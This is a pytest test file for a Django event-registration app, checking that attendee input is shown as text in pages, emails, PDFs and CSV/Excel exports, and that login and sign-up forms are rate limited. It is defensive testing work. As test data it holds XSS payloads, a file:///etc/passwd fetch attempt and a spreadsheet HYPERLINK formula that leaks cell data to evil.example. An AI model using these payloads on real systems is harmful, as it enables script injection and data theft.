"""Hostile input: what a person types stays text, and cannot steer the PDF renderer."""

import csv
import io

import pytest
from pypdf import PdfReader

from core.pdf import ForbiddenResource, ProjectFilesOnly
from day.badges import Badge, render_badges
from registrations.models import Registration
from tests.factories import EventFactory, UserFactory, WorkshopBookingFactory
from tests.forms import MINIMAL_REGISTRATION_FORM

pytestmark = pytest.mark.django_db


def test_markup_in_a_name_is_printed_as_text_on_the_badge(db):
    event = EventFactory()
    hostile = '<img src="http://127.0.0.1:9/steal"><link rel=stylesheet href="file:///etc/passwd">'
    pdf = render_badges([Badge(hostile, "Dupont", "Org", "client", "1.r1:x", event)])
    text = PdfReader(io.BytesIO(pdf)).pages[0].extract_text()
    assert "<img" in text and "/etc/passwd" in text  # shown, not obeyed


@pytest.mark.parametrize(
    "url", ["http://127.0.0.1:9/x", "https://example.org/a.css", "file:///etc/passwd", "ftp://example.org/f"]
)
def test_the_pdf_renderer_fetches_nothing_outside_the_projects_static_files(url):
    with pytest.raises(ForbiddenResource):
        ProjectFilesOnly().fetch(url)


def test_the_projects_own_stylesheet_is_allowed():
    from django.contrib.staticfiles import finders

    response = ProjectFilesOnly().fetch("file://" + finders.find("pdf/fonts.css"))
    assert b"Atkinson Hyperlegible" in response.read()


def test_extra_post_fields_change_nothing(client):
    event = EventFactory()
    other = UserFactory()
    user = UserFactory(verified=True)
    client.force_login(user)
    client.post(
        "/en/register/",
        MINIMAL_REGISTRATION_FORM | {"status": "cancelled", "user": other.pk, "event": 999, "queued_at": "2020-01-01"},
    )
    registration = Registration.objects.get()
    assert (registration.user, registration.event, registration.status) == (user, event, "confirmed")


def test_the_admin_login_is_rate_limited_whatever_the_forwarded_for_header(client):
    from django.core.cache import cache

    from techforclimate.admin_login import MAX_FAILURES

    cache.clear()
    user = UserFactory(is_staff=True, email="orga@example.org")
    for attempt in range(MAX_FAILURES):
        response = client.post(
            "/en/admin/login/",
            {"username": "orga@example.org", "password": "wrong"},
            HTTP_X_FORWARDED_FOR=f"203.0.113.{attempt}",
        )
        assert response.status_code == 200
    response = client.post(
        "/en/admin/login/",
        {"username": user.email, "password": "a-long-test-password"},
        HTTP_X_FORWARDED_FOR="198.51.100.1",
    )
    assert response.status_code == 429
    assert "_auth_user_id" not in client.session


def test_the_registration_form_is_rate_limited_per_account(client):
    from django.core.cache import cache

    from registrations.views import REGISTRATION_POSTS_PER_MINUTE

    cache.clear()
    EventFactory()
    user = UserFactory(verified=True)
    client.force_login(user)
    statuses = [client.post("/en/register/", {}).status_code for _ in range(REGISTRATION_POSTS_PER_MINUTE + 1)]
    assert statuses == [200] * REGISTRATION_POSTS_PER_MINUTE + [429]
    other = UserFactory(verified=True)
    client.force_login(other)
    assert client.post("/en/register/", {}).status_code == 200  # counted per account


SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'


@pytest.fixture
def hostile_attendee(db):
    """A registration whose every typed field is an attack, booked on a workshop."""
    from events.models import Session
    from tests.factories import RegistrationFactory, SessionFactory

    event = EventFactory()
    registration = RegistrationFactory(
        event=event,
        first_name="Zoé",
        last_name=SCRIPT,
        organisation=FORMULA,
        job_title=f"<img src=x onerror=alert(2)>{SCRIPT}",
        dietary_requirements=SCRIPT,
        accessibility_needs=SCRIPT,
        user__verified=True,
    )
    workshop = SessionFactory(event=event, kind=Session.Kind.WORKSHOP, capacity=20)
    WorkshopBookingFactory(registration=registration, session=workshop, status="booked")
    return registration, workshop


def assert_shown_as_text(html: str):
    assert SCRIPT not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


@pytest.mark.parametrize(
    "path",
    [
        "/en/my-registration/",
        "/en/admin/registrations/registration/",
        "/en/admin/registrations/registration/{pk}/change/",
        "/en/admin/registrations/registration/catering/",
        "/en/check-in/?q=Zoé",
    ],
)
def test_typed_markup_is_shown_as_text_on_pages_and_in_the_admin(client, hostile_attendee, path):
    registration, _ = hostile_attendee
    who = registration.user if path.startswith("/en/my-") else UserFactory(is_staff=True, is_superuser=True, totp=True)
    client.force_login(who)
    response = client.get(path.format(pk=registration.pk))
    assert response.status_code == 200
    assert_shown_as_text(response.content.decode())


def test_typed_markup_is_text_in_the_confirmation_email(hostile_attendee):
    from mail.rendering import build_message
    from registrations.emails import queue_registration_email

    registration, _ = hostile_attendee
    registration.first_name = SCRIPT
    message = build_message(queue_registration_email(registration, "confirmed"))
    html, _ = message.alternatives[0]
    assert_shown_as_text(html)


def test_typed_markup_is_printed_as_text_on_the_sign_in_sheets(admin_client, hostile_attendee):
    _, workshop = hostile_attendee
    response = admin_client.post(
        "/en/admin/events/session/", {"action": "sign_in_sheets", "_selected_action": [workshop.pk]}
    )
    assert response["Content-Type"] == "application/pdf"
    text = PdfReader(io.BytesIO(response.content)).pages[0].extract_text()
    # The sheet prints last names in capitals and may break the line anywhere.
    assert "<SCRIPT>ALERT(1)</SCRIPT>" in "".join(text.upper().split())


def csv_cells(response) -> list[str]:
    rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    return [cell for row in rows for cell in row]


def test_a_typed_formula_stays_text_in_the_csv_and_excel_exports(admin_client, hostile_attendee):
    from openpyxl import load_workbook

    cells = csv_cells(admin_client.get("/en/admin/registrations/registration/export.csv"))
    assert "'" + FORMULA in cells and FORMULA not in cells

    workbook = load_workbook(io.BytesIO(admin_client.get("/en/admin/registrations/registration/export.xlsx").content))
    cells = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" for cell in cells)  # "s": a string, not a formula


def test_a_typed_formula_stays_text_in_the_workshop_attendee_list(admin_client, hostile_attendee):
    _, workshop = hostile_attendee
    response = admin_client.post(
        "/en/admin/events/session/", {"action": "attendee_list", "_selected_action": [workshop.pk]}
    )
    cells = csv_cells(response)
    assert "'" + FORMULA in cells and FORMULA not in cells


@pytest.mark.parametrize(
    ("path", "form", "allowed"),
    [
        # allauth's limits: 20 sign-ups a minute per address; 5 resets and 3 login codes a
        # minute per e-mail address.
        ("/en/accounts/signup/", {"email": "new{n}@example.org", "password1": "x", "password2": "y"}, 20),
        ("/en/accounts/password/reset/", {"email": "cible@example.org"}, 5),
        ("/en/accounts/login/code/", {"email": "cible@example.org"}, 3),
    ],
    ids=["sign-up", "password-reset", "login-code"],
)
def test_account_forms_are_rate_limited_whatever_the_forwarded_for_header(db, path, form, allowed):
    from django.test import Client

    UserFactory(email="cible@example.org", verified=True)

    def refused(n: int) -> bool:
        # A fresh browser each time (no session to tell them apart) and a made-up
        # X-Forwarded-For: neither resets the count.
        response = Client().post(
            path, {k: v.format(n=n) for k, v in form.items()}, HTTP_X_FORWARDED_FOR=f"203.0.113.{n}"
        )
        return response.status_code == 429 or b"Too many" in response.content

    assert [refused(n) for n in range(allowed + 1)] == [False] * allowed + [True]
